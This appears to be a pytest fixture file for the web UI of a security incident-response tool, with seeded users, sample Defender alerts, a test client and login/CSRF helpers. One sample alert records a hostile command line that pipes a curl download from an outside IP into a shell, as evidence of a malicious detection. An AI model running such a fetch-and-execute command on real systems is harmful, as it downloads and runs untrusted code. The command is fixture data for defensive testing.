"""Fixtures for the web UI tests: a real SQLite data directory, users, alerts, a browser-like client."""

from __future__ import annotations

import re
import shutil
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

with warnings.catch_warnings():
    # Starlette warns at import when only httpx (not httpx2) is installed; nothing to fix here.
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from autoir.bootstrap import Container, build
from autoir.cli.server import create_app
from autoir.settings import Settings

PASSWORD = "correct-horse-battery"
ANALYST = "analyst@fabrikam.example"
READER = "reader@fabrikam.example"
FRENCH = "camille@fabrikam.example"


def device(n: int) -> dict[str, Any]:
    return {
        "@odata.type": "#microsoft.graph.security.deviceEvidence",
        "mdeDeviceId": f"{n:040x}",
        "deviceDnsName": f"host{n}.fabrikam.example",
        "osPlatform": "Linux",
    }


def mailbox(address: str) -> dict[str, Any]:
    return {"@odata.type": "#microsoft.graph.security.mailboxEvidence", "primaryAddress": address}


ALERTS: list[dict[str, Any]] = [
    {
        "title": "Suspicious shell command",
        "detectorId": "shell-1",
        "serviceSource": "microsoftDefenderForEndpoint",
        "detectionSource": "microsoftDefenderForEndpoint",
        "severity": "high",
        "category": "Execution",
        "mitreTechniques": ["T1059.004"],
        "description": "curl piped to sh",
        "evidence": [
            device(1),
            {
                "@odata.type": "#microsoft.graph.security.processEvidence",
                "processId": 20,
                "parentProcessId": 10,
                "processCommandLine": "sh -c 'curl http://203.0.113.9/x | sh'",
                "imageFile": {"fileName": "sh"},
                "parentProcessImageFile": {"fileName": "sshd"},
                "mdeDeviceId": f"{1:040x}",
                "verdict": "malicious",
            },
        ],
    },
    {
        "title": "Phish delivered to mailbox",
        "detectorId": "phish-1",
        "serviceSource": "microsoftDefenderForOffice365",
        "severity": "medium",
        "evidence": [mailbox("alice@fabrikam.example")],
    },
    {
        "title": "Phish delivered to mailbox",
        "detectorId": "phish-1",
        "serviceSource": "microsoftDefenderForOffice365",
        "severity": "medium",
        "evidence": [mailbox("bob@fabrikam.example")],
    },
    {
        "title": "Unusual package installed",
        "detectorId": "pkg-1",
        "serviceSource": "microsoftDefenderForEndpoint",
        "severity": "low",
        "evidence": [device(2)],
    },
]


@pytest.fixture(scope="session")
def seeded_data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A migrated database with three users, made once (password hashing is slow on purpose)."""
    data_dir = tmp_path_factory.mktemp("seed") / "data"
    built = build(Settings(data_dir=data_dir))
    built.access.create_user(ANALYST, PASSWORD, "Security operator", "Ana Analyst")
    built.access.create_user(READER, PASSWORD, "Security reader", "Rémi Reader")
    built.access.create_user(FRENCH, PASSWORD, "Security operator", "Camille Martin", "fr")
    built.close()
    return data_dir


@pytest.fixture
def container(tmp_path: Path, seeded_data_dir: Path) -> Iterator[Container]:
    data_dir = tmp_path / "data"
    shutil.copytree(seeded_data_dir, data_dir)
    built = build(Settings(data_dir=data_dir))
    yield built
    built.close()


@pytest.fixture
def alert_ids(container: Container) -> list[str]:
    return container.ingest.ingest(ALERTS).ids


@pytest.fixture
def client(container: Container) -> Iterator[TestClient]:
    with TestClient(create_app(container), follow_redirects=False) as test_client:
        yield test_client


def login(client: TestClient, username: str = ANALYST, password: str = PASSWORD) -> Any:
    page = client.get("/login")
    assert page.status_code == 200
    token = client.cookies.get("autoir_login_csrf")
    return client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": token, "next": "/alerts"},
    )


def sign_in(page: Any, username: str = ANALYST) -> None:
    """Log in through the login form, in Chromium."""
    page.goto("/login")
    page.fill("#username", username)
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(re.compile(r"/(alerts|dashboard)?$"))


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token in the page"
    return found.group(1)


@pytest.fixture
def analyst(client: TestClient) -> TestClient:
    assert login(client).status_code == 303
    return client


@pytest.fixture
def csrf(analyst: TestClient) -> str:
    return csrf_of(analyst.get("/dashboard").text)
